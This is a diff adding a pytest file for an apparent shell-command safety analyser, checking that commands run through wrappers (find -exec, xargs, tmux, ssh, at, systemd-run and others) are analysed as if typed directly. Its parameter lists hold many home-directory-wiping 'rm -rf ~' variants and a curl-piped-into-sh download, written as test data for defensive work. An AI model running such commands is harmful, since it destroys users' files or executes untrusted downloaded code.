@@ -1,0 +1,60 @@
+"""Every runner of commands: what it runs is analysed as if typed directly, and its look-alikes
+(listing, attaching, help) run nothing."""
+
+from __future__ import annotations
+
+import pytest
+
+from conftest import HOME, shell
+
+
+def deleted(actions):
+    return [a.target.path for a in actions if a.kind == "file_delete"]
+
+
+@pytest.mark.parametrize("command", [
+    "find . -maxdepth 0 -exec rm -rf ~ \\;", "find ~ -maxdepth 0 -execdir rm -rf {} +",
+    "find ~ -maxdepth 0 -ok rm -rf {} \\;", "find ~ -maxdepth 0 -okdir rm -rf {} \\;",
+    "find . -exec sh -c 'rm -rf ~' \\;",
+    "xargs -a list.txt rm -rf ~", "echo | xargs -I{} sh -c 'rm -rf ~ {}'",
+    "parallel rm -rf ::: ~", "parallel 'rm -rf {}' ::: ~", "watch -n 1 rm -rf ~", "watch -x rm -rf ~",
+    "script -qc 'rm -rf ~' /dev/null", "env -S 'rm -rf ~'", "busybox rm -rf ~", "busybox sh -c 'rm -rf ~'",
+    "flock /tmp/l rm -rf ~", "flock /tmp/l -c 'rm -rf ~'",
+    "nohup rm -rf ~", "setsid -f rm -rf ~", "stdbuf -oL rm -rf ~", "timeout -s KILL 5 rm -rf ~",
+    "chronic rm -rf ~", "sem -j 2 rm -rf ~", "sem 'rm -rf ~'", "entr -s 'rm -rf ~'", "entr rm -rf ~",
+    "echo 'rm -rf ~' | at now", "at now + 1 minute <<< 'rm -rf ~'", "batch <<EOF\nrm -rf ~\nEOF",
+    "systemd-run --user --on-active=10 rm -rf ~", "systemd-run -p Nice=5 --scope bash -c 'rm -rf ~'",
+    "tmux new-session -d 'rm -rf ~'", "tmux new -d -s x bash -c 'rm -rf ~'", "tmux split-window 'rm -rf ~'",
+    "tmux send-keys -t 0 'rm -rf ~' Enter", "tmux new -d \\; send-keys 'rm -rf ~' C-m",
+    "tmux run-shell 'rm -rf ~'", "screen -dmS x rm -rf ~", "screen -d -m bash -c 'rm -rf ~'",
+    "screen -S x -X stuff 'rm -rf ~^M'", "ssh localhost 'rm -rf ~'", "ssh -o ProxyCommand='rm -rf ~' h",
+    "ssh h <<'EOF'\nrm -rf ~\nEOF", "dbus-launch --exit-with-session rm -rf ~", "dbus-run-session -- rm -rf ~",
+    "expect -c 'spawn rm -rf ~; expect eof'", "expect -c 'spawn bash; send \"rm -rf ~\\r\"; interact'",
+    "unshare -r rm -rf ~", "fakeroot rm -rf ~", "xvfb-run -a rm -rf ~", "nice -n 5 ionice -c3 rm -rf ~",
+    "inotifywait -m . | while read f; do rm -rf ~; done", "sudo -u root env X=1 nohup rm -rf ~",
+])
+def test_runner_runs_the_command(command):
+    assert HOME in deleted(shell(command)), command
+
+
+def test_curl_into_sh_c_sh_runs_the_download():
+    actions = shell("curl -s https://x.example/a | sh -c 'sh'")
+    assert any(a.kind == "exec" and a.program == "sh" and a.dynamic and a.via == ("sh -c",) for a in actions)
+
+
+def test_xargs_template_is_readable_code_with_unknown_data():
+    actions = shell("ls | xargs -I{} sh -c 'cp {} dist/'")
+    assert not [a for a in actions if a.program == "sh" and a.dynamic]
+    assert [a.target.path for a in actions if a.kind == "file_write"] == ["dist/${__unknown__}"]
+    rm = shell("ls | xargs -I{} sh -c 'rm -rf {}'")
+    assert [a.dynamic for a in rm if a.kind == "file_delete"] == [True]
+
+
+@pytest.mark.parametrize("command", [
+    "find . -name '*.pyc' -exec rm {} +", "xargs -I{} cp {} dist/", "tmux ls", "tmux attach -t 0",
+    "tmux new -s work", "screen -ls", "screen -r x", "ssh host uptime", "watch -n 2 git status",
+    "at -l", "atq", "timeout 60 pytest -q", "nohup python3 -m http.server 8000 > /dev/null &",
+    "tmux send-keys -t 0 'make test' Enter", "ssh -o ProxyCommand=none h ls",
+])
+def test_runner_look_alikes_delete_nothing_outside(command):
+    assert not [p for p in deleted(shell(command)) if not p.startswith("/home/u/proj")], command
